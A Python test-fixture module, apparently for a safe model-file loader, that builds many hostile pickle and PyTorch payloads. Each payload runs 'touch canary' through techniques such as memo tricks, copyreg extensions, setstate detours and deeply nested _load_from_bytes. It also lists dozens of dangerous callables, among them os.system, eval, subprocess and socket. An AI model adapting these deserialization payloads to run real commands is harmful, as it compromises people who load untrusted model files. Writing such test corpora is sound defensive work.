"""Files that run code in a careless reader. Each would make a file named ``canary`` in the working folder, or worse."""

from __future__ import annotations

import pickle
import struct
from collections.abc import Iterator

from hostile.containers import LAYOUTS, call, named, named_by_stack, plain, text, torch_stream, value

SHELL = "touch canary"
PYTHON = "open('canary', 'w').close()"
_LOAD = "torch.storage._load_from_bytes"
OF_SHELL = ["os.system", "posix.system", "nt.system", "os.popen", "os.execv", "os.posix_spawn", "os.spawnv", "subprocess.Popen", "subprocess.call", "subprocess.check_output", "commands.getoutput", "pty.spawn", "webbrowser.open", "multiprocessing.util.spawnv_passfds", "platform.popen", "asyncio.create_subprocess_shell", "distutils.spawn.spawn", "pydoc.pipepager"]  # fmt: skip
OF_PYTHON = ["builtins.eval", "builtins.exec", "__builtin__.eval", "builtins.compile", "builtins.__import__", "builtins.open", "builtins.getattr", "builtins.breakpoint", "builtins.globals", "io.open", "code.interact", "timeit.timeit", "cProfile.run", "profile.run", "bdb.Bdb.run", "runpy.run_path", "runpy.run_module", "runpy._run_code", "importlib.import_module", "importlib.machinery.SourceFileLoader", "types.CodeType", "types.FunctionType", "functools.partial", "operator.attrgetter", "operator.methodcaller", "sys.settrace", "pickle.loads", "pickle.load", "_pickle.loads", "marshal.loads", "shelve.open", "dill.loads", "cloudpickle.loads", "joblib.load", "numpy.load", "numpy.testing._private.utils.runstring", "numpy.f2py.crackfortran.getlincoef", "numpy.ctypeslib.load_library", "torch.load", "torch.serialization.load", "torch.hub.load", "torch.hub.load_state_dict_from_url", "torch.jit.load", "torch.jit.unsupported_tensor_ops.execWrapper", "torch._dynamo.guards.GuardBuilder.get", "torch.ops.load_library", "torch.classes.load_library", "torch.utils.cpp_extension.load", "torch.utils.cpp_extension.load_inline", "torch.package.PackageImporter", "torch.fx.graph_module.reduce_graph_module", "torch.fx.graph_module._forward_from_src", "torch.utils.collect_env.run", "torch.multiprocessing.spawn", "torch.nn.Module", "torch.distributed.run.main", "torch.nn.modules.module.torch.hub.load", "torch.nn.modules.module.warnings.sys", "torch.nn.modules.os", "ctypes.CDLL", "socket.create_connection", "socket.socket", "urllib.request.urlopen", "shutil.rmtree", "os.remove", "os.mkdir", "pathlib.Path.unlink", "tempfile.NamedTemporaryFile", "logging.config.listen", "logging.FileHandler", "smtplib.SMTP", "http.server.test", "pip.main", "site.addsitedir", "zipimport.zipimporter", "ensurepip._run_pip", "lib2to3.pgen2.grammar.Grammar.loadgrammar", "dnnlib.util.call_func_by_name", "dnnlib.util.construct_class_by_name", "torch_utils.persistence._src_to_module", "tensorflow.saved_model.load", "keras.models.load_model", "collections.OrderedDict.__class__", "__main__.Net"]  # fmt: skip


def _ways() -> Iterator[tuple[str, bytes]]:
    """Every instruction that calls something, and detours to it."""
    system, args = named("os.system"), value((SHELL,))
    yield "reduce", system + args + b"R"
    yield "newobj", system + args + b"\x81"
    yield "newobj_ex", system + args + value({}) + b"\x92"
    yield "inst", b"(" + text(SHELL) + b"ios\nsystem\n"
    yield "obj", b"(" + system + text(SHELL) + b"o"
    yield "build-setstate", named("collections.OrderedDict") + b")R" + value({"__setstate__": 1}) + b"b" + system + b"0"
    yield "build-state-of-global", system + value({"__class__": "x"}) + b"b"
    yield "build-slots", named("argparse.Namespace") + b")R" + value((None, {"__class__": 1})) + b"b" + system + b"\x86"
    yield "build-dict-of-a-class", named("torch.Tensor") + value({"__reduce__": SHELL}) + b"b"
    yield "reconstructor", named("copyreg._reconstructor") + b"(" + system + named("builtins.object") + b"NtR"
    yield "reconstructor-of-call", named("copyreg._reconstructor") + b"(" + system + args + b"R" + value(1) + b"NtR"
    yield "newobj-by-name", named("copyreg.__newobj__") + b"(" + system + text(SHELL) + b"tR"
    yield "extension-1", b"\x82\x01" + args + b"R"
    yield "extension-2", b"\x83\x01\x01" + args + b"R"
    yield "extension-4", b"\x84\x01\x01\x01\x01" + args + b"R"
    yield "add-extension", call(named("copyreg.add_extension"), "os", "system", 7) + b"0\x82\x07" + args + b"R"
    yield "memo-swap", named("collections.OrderedDict") + b"q\x000" + system + b"q\x000h\x00" + args + b"R"
    yield "memo-text", text("os") + b"q\x010" + text("system") + b"q\x020h\x01h\x02\x93" + args + b"R"
    yield "memoize-gap", text("x") + b"q\x05\x94" + b"0" + text("os") + text("system") + b"\x93" + args + b"R"
    yield "stack-dotted", named_by_stack("builtins", "eval.__self__.exec") + value((PYTHON,)) + b"R"
    yield "stack-dotted-torch", named_by_stack("torch.nn.modules.module", "torch.hub.load") + value((".", "x")) + b"R"
    yield "stack-dotted-known", named_by_stack("collections", "OrderedDict.__init__.__globals__") + b")R"
    yield "hidden-by-pop", system + args + b"R0" + value({"a": 1})
    yield "hidden-by-mark", b"(" + system + args + b"R1" + value({"a": 1})
    yield "as-key", b"}" + system + args + b"R" + value(1) + b"s"
    yield "as-set-element", b"\x8f(" + system + args + b"R\x90"
    yield "in-state", named("argparse.Namespace") + b")R}" + text("a") + system + args + b"Rsb"
    yield "call-of-call", call(named("builtins.getattr"), "x", "y") + args + b"R"
    yield (
        "getattr-chain",
        (
            named("builtins.getattr")
            + b"("
            + call(named("builtins.__import__"), "os")
            + text("system")
            + b"tR"
            + args
            + b"R"
        ),
    )
    yield "map-next", named("builtins.next") + b"(" + named("builtins.map") + b"(" + system + value([SHELL]) + b"tRtR"
    yield "default-factory", named("collections.defaultdict") + b"(" + system + b"tR" + value(1) + value(2) + b"s"
    yield "persistent-call", system + args + b"RQ"
    yield "persistent-function", b"(" + text("storage") + system + text("0") + text("cpu") + value(4) + b"tQ"
    yield "persistent-line", b"Pos.system('touch canary')\n"
    yield "parameter-of-call", named("torch._utils._rebuild_parameter") + b"(" + system + args + b"R\x88NtR"
    yield "tensor-of-call", named("torch._utils._rebuild_tensor_v2") + b"(" + system + args + b"RK\x00))\x89NtR"
    yield "buffer-instruction", b"\x97\x98"
    yield "object-array", (
        named("numpy.core.multiarray._reconstruct") + b"(" + named("numpy.ndarray") + value((0,)) + value(b"b") + b"tR("
        + value(1) + value((1,)) + named("numpy.dtype") + value(("O8", False, True)) + b"R\x89" + b"](" + system + args + b"Retb"
    )  # fmt: skip
    hidden = named("numpy.dtype") + value(("i,O", False, True)) + b"R" + value(b"x" * 16) + b"\x86R"
    yield "object-array-in-a-record", named("numpy.core.multiarray.scalar") + hidden


def _nested() -> Iterator[tuple[str, bytes]]:
    """Hostile pickles within what other readers open."""
    inner = plain(call(named("os.system"), SHELL), 2)
    stream = torch_stream(call(named("os.system"), SHELL))
    yield "load-from-bytes-pickle", call(named(_LOAD), inner)
    yield "load-from-bytes-stream", call(named(_LOAD), stream)
    yield (
        "load-from-bytes-latin",
        (named(_LOAD) + b"(" + call(named("_codecs.encode"), stream.decode("latin-1"), "latin1") + b"tR"),
    )
    within = stream
    for _ in range(3):
        within = torch_stream(call(named(_LOAD), within))
    yield "load-from-bytes-within", call(named(_LOAD), within)
    for _ in range(9):
        within = torch_stream(call(named(_LOAD), within))
    yield "load-from-bytes-deep", call(named(_LOAD), within)
    yield "load-from-bytes-byte-array", named(_LOAD) + b"\x96" + struct.pack("<Q", len(stream)) + stream + b"\x85R"
    meta = {
        "type": "class", "version": 6, "module_src": f"import os\nos.system({SHELL!r})\n", "class_name": "Generator",
    }  # fmt: skip
    persistence = named("torch_utils.persistence._reconstruct_persistent_obj")
    yield "nvidia-source", persistence + value(({**meta, "state": {}},)) + b"R"
    yield "nvidia-state", persistence + value(({**meta, "state": 3},)) + b"R"
    network = {"version": 4, "name": "Gs", "static_kwargs": {}, "variables": [], "build_module_src": meta["module_src"]}
    yield "dnnlib-source", named("dnnlib.tflib.network.Network") + b")\x81" + value(network) + b"b"
    yield "numpy-load", call(named("numpy.load"), inner)
    yield "pickle-in-pickle", call(named("pickle.loads"), pickle.dumps(inner))


OPENED_AS_DATA = (
    "nvidia-source", "dnnlib-source", "build-setstate", "build-slots", "as-set-element", "build-dict-of-a-class",
)  # fmt: skip
"""Those that ``read_tree`` may open where nothing hostile is named: their source is data that nobody runs."""


def attacks() -> Iterator[tuple[str, bytes]]:
    """(name, content). Every call by GLOBAL and by STACK_GLOBAL, every detour, in each layout."""
    for layout, packed in LAYOUTS.items():
        for names, argument in ((OF_SHELL, SHELL), (OF_PYTHON, PYTHON)):
            for name in names:
                module, _, last = name.rpartition(".")
                yield f"{layout}/global/{name}", packed(b"}" + text("g_ema") + call(named(name), argument) + b"s")
                yield f"{layout}/stack/{name}", packed(call(named_by_stack(module, last), argument))
        for name, body in (*_ways(), *_nested()):
            yield f"{layout}/way/{name}", packed(body)
    yield "pickle/way/second-pickle", plain(value({})) + plain(call(named("os.system"), SHELL))
    yield "stream/way/in-keys", torch_stream(b"}")[:-4] + call(named("os.system"), SHELL) + b"."
